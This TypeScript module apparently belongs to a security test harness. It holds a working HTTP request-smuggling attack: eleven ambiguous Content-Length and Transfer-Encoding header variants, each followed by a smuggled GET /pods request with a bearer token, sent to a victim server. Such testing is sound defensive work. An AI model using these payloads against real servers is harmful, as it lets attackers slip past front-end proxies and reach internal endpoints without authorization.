import type { Attack } from '../attack.ts';
import { TOKEN } from '../token.ts';

const SMUGGLED = `GET /pods HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${TOKEN}\r\n\r\n`;
/** Request heads that two servers may parse differently: one sees a body, the other sees a second request. */
const AMBIGUOUS: readonly string[] = [
  'Content-Length: 0\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nContent-Length: 5',
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length: 0, 5',
  'Content-Length: +0',
  'Content-Length: 0x0',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'X: y\nContent-Length: 0',
];

export const smuggling: Attack = {
  name: 'smuggling',
  input: `${AMBIGUOUS.length} request heads with ambiguous lengths, each followed by a second request`,
  async run({ victim, connections }) {
    const smuggled: string[] = [];
    for (const header of AMBIGUOUS) {
      const head = `POST /stats/summary HTTP/1.1\r\nHost: x\r\n${header}\r\n\r\n`;
      const answer = await connections.exchange(victim.port, `${head}0\r\n\r\n${SMUGGLED}`, 300);
      if (/HTTP\/1\.1 200 /.test(answer)) smuggled.push(JSON.stringify(header));
    }
    const success = smuggled.length > 0 ? `a second request was answered after ${smuggled.join(', ')}` : undefined;
    return { did: `${AMBIGUOUS.length - smuggled.length} refused`, success };
  },
};
